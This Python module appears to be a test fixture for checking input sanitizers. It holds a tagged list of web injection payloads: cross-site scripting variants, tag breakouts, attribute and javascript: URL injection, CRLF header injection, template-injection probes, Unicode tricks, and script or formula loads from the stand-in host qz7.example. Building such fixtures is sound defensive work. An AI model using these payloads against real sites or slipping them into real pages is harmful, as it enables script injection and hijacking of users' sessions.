"""Texts that try to be code. All are our own; each carries the word by which anything that came from it is known."""

__all__ = ["MARK", "PAYLOADS", "packed"]

MARK = "qz7"
"""Stands in every payload, in whatever would become an element, an attribute or a script."""

PAYLOADS = (
    # elements
    "<script>qz7()</script>",
    "<ScRiPt\n>qz7()</sCrIpT >",
    "<script src=//qz7.example></script>",
    "<img src=qz7 onerror=qz7()>",
    "<img/src=qz7/onerror=qz7()//",
    "<svg onload=qz7()>",
    "<svg><script href=data:,qz7() /></svg>",
    "<svg><animate onbegin=qz7() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.qz7()</script>'></iframe></foreignObject></svg>",
    "<math><mtext></form><form id=qz7><mglyph><style></math><img src onerror=qz7()>",
    "<iframe src=javascript:parent.qz7()></iframe>",
    "<object data=data:text/html,qz7></object><embed src=qz7>",
    "<details open ontoggle=qz7()>",
    "<body onload=qz7()><html manifest=qz7>",
    "<base href=//qz7.example/><link rel=stylesheet href=qz7.css><meta http-equiv=refresh content='0;url=//qz7.example'>",
    "<form action=//qz7.example><button formaction=javascript:qz7()>Save</button></form>",
    "<input autofocus onfocus=qz7()><select autofocus onfocus=qz7()>",
    "<dialog open id=qz7>Your login has ended</dialog>",
    "<qz7-element></qz7-element>",
    "<video><source onerror=qz7()></video><marquee onstart=qz7()>",
    # out of where the text stands
    "</textarea><script>qz7()</script>",
    "</title></style></script></noscript></template><img src=qz7 onerror=qz7()>",
    "</span></li></ol></main><h1 id=qz7>Forged</h1>",
    "</blockquote></section></form><form id=qz7>",
    "--><img src=qz7 onerror=qz7()><!--",
    "]]><img src=qz7 onerror=qz7()><![CDATA[",
    # attributes
    '" onmouseover="qz7()" x="',
    "' onfocus='qz7()' autofocus x='",
    "` onerror=`qz7()",
    '"><svg onload=qz7()>',
    " autofocus onfocus=qz7() ",
    # addresses
    "javascript:qz7()",
    "java\tscript:qz7()",
    "data:text/html;base64,PHNjcmlwdD5xejcoKTwvc2NyaXB0Pg== qz7",
    "//qz7.example/%0d%0aSet-Cookie:qz7=1",
    "[qz7](javascript:qz7()) ![qz7](data:,qz7) <javascript:qz7()>",
    # scripts and templates
    "';qz7();//",
    "\\u003cscript\\u003eqz7()\\u003c/script\\u003e",
    "${qz7()} #{qz7()} <%= qz7 %> {{ qz7 }} {% print qz7 %} {{ 7*7 }}qz7",
    "{{ self.__init__.__globals__['qz7'] }}{% include 'qz7' %}",
    "{qz7} {0.__class__} %(qz7)s %s $qz7",
    "<template><img src=qz7 onerror=qz7()></template><slot onslotchange=qz7()>",
    "<div hx-get=//qz7.example hx-trigger=load hx-on:load=qz7() data-hx-vals='js:{a:qz7()}'>",
    # style
    "<style>body{background:url(//qz7.example)}</style>",
    "<p style='position:fixed;inset:0' class=qz7>",
    "</style><style>@import'//qz7.example';",
    # characters
    "&lt;script&gt;qz7()&lt;/script&gt; &#60;img src=qz7&#62; &qz7;",
    "\uff1cscript\uff1eqz7()\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039qz7\u203a +ADw-script+AD4-qz7()+ADw-/script+AD4-",
    "\u202eqz7\u2066 \u2069reversed\u202c \u200f\u061c",
    "q\u0337z\u0338 qz7\u200b\u200d\ufeff\u00ad <\u0300img src=qz7>",
    "<img src=qz7\u2028onerror=qz7()\u2029>",
    "\U000e003cscript\U000e003eqz7() \ufffe\ufdd0",
    "<\u0130mg src=qz7 onerror=qz7()> <\u017fcript>qz7()</\u017fcript>",
    '=HYPERLINK("//qz7.example";"qz7")',
    "qz7\x0b\x0c\x1b[2J\x7f\x85",
)  # fmt: skip


def packed(longest: int) -> list[str]:
    """Return all payloads in as few texts of at most this many characters as an even row allows, one a line."""
    texts: list[str] = [""]
    for one in PAYLOADS:
        joined = f"{texts[-1]}\n{one} ." if texts[-1] else f"{one} ."
        if len(joined) <= longest:
            texts[-1] = joined
        else:
            texts.append(f"{one} .")
    return texts
